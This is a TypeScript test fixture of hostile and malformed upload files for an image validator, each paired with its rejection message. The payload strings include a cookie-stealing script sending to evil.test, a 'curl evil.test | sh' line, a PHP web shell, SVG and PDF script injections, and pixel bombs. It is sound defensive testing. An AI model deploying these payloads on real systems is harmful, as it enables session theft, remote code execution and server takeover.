import sharp from 'sharp'

const plain = () => sharp({ create: { width: 60, height: 40, channels: 3, background: '#0d5c48' } })
const png = () => plain().png().toBuffer()
const jpeg = () => plain().jpeg().toBuffer()
const webp = () => plain().webp().toBuffer()
const text = (content: string) => () => Promise.resolve(Buffer.from(content))
const behind = (picture: () => Promise<Buffer>, content: string) => async () =>
  Buffer.concat([await picture(), Buffer.from(content, 'latin1')])

const noPicture = 'Choose a PNG, JPEG or WebP picture.'
const damaged = 'This picture is damaged and cannot be read.'
const polyglot = 'This file is more than a picture. Save it anew as a PNG, JPEG or WebP picture.'
const script = '<script>fetch("//evil.test/"+document.cookie)</script>'

/** Files that are no pictures, or more than that, and what whoever sends one is told. */
export const hostilePictures: [name: string, make: () => Promise<Buffer>, reason: string][] = [
  ['nothing', text(''), noPicture],
  ['a blank', text(' '), noPicture],
  ['an svg', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), noPicture],
  ['an svg with a prolog', text(`<?xml version="1.0"?><svg>${script}</svg>`), noPicture],
  ['an svg behind a byte order mark', text('\uFEFF<svg onload="alert(1)"/>'), noPicture],
  ['a page', text(`<!doctype html><title>a.png</title>${script}`), noPicture],
  ['a program', text('#!/bin/sh\ncurl evil.test | sh\n'), noPicture],
  ['a pdf', text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'), noPicture],
  ['a zip', text('PK\u0003\u0004'.padEnd(80, 'x')), noPicture],
  ['a windows program', text('MZ'.padEnd(120, '\u0000')), noPicture],
  ['postscript', text('%!PS-Adobe-3.0 EPSF-3.0\n(a) run'), noPicture],
  ['imagemagick commands', text('push graphic-context\nfill "url(https://evil.test/)"'), noPicture],
  ['a picture of xpm', text('/* XPM */ static char *a[] = {"1 1 1 1", "a c #fff", "a"};'), noPicture],
  ['a gif', () => plain().gif().toBuffer(), noPicture],
  ['a gif that is a script', text('GIF89a/*'.padEnd(40, 'a') + '*/=1;alert(1)'), noPicture],
  ['a tiff', () => plain().tiff().toBuffer(), noPicture],
  ['an avif', () => plain().avif().toBuffer(), noPicture],
  ['a bmp', text('BM'.padEnd(100, '\u0000')), noPicture],
  ['the signature of a png', text('\u0089PNG'), noPicture],
  ['the head of a png', async () => (await png()).subarray(0, 40), damaged],
  ['half a png', async () => (await png()).subarray(0, 90), damaged],
  ['half a jpeg', async () => (await jpeg()).subarray(0, 200), damaged],
  ['half a webp', async () => (await webp()).subarray(0, 60), damaged],
  [
    'a png with damaged pixels',
    async () => {
      const file = await png()
      const at = file.indexOf('IDAT') + 6
      return Buffer.concat([file.subarray(0, at), Buffer.alloc(20, 0xff), file.subarray(at + 20)])
    },
    damaged,
  ],
  ['a png with a page behind it', behind(png, `<html>${script}</html>`), polyglot],
  ['a jpeg with a script behind it', behind(jpeg, script), polyglot],
  ['a webp with php behind it', behind(webp, '<?php system($_GET["c"]); ?>'), polyglot],
  [
    'a png with an archive behind it',
    behind(png, 'PK\u0003\u0004canaryPK\u0005\u0006'.padEnd(60, '\0')),
    polyglot,
  ],
  [
    'a jpeg with a page in its description',
    () =>
      plain()
        .withExif({ IFD0: { ImageDescription: script } })
        .jpeg()
        .toBuffer(),
    polyglot,
  ],
  [
    'a hundred million pixels',
    () =>
      sharp({ create: { width: 10_000, height: 10_000, channels: 3, background: '#fff' } })
        .png()
        .toBuffer(),
    'This picture has too many pixels. Choose one with at most 30 million.',
  ],
  [
    '50,000 pixels in one row',
    () =>
      sharp({ create: { width: 50_000, height: 1, channels: 3, background: '#fff' } })
        .png()
        .toBuffer(),
    'A side of this picture has more than 15,000 pixels.',
  ],
  [
    '5 MB and a byte',
    async () => Buffer.concat([await png(), Buffer.alloc(5 * 1024 * 1024)]),
    'This file is larger than 5 MB.',
  ],
]

/** A picture that nothing is wrong with, of its own color. */
export async function pictureOf(green: number): Promise<Uint8Array<ArrayBuffer>> {
  const background = { r: 13, g: green, b: 72 }
  const picture = sharp({ create: { width: 60, height: 40, channels: 3, background } })
  return new Uint8Array(await picture.png().toBuffer())
}
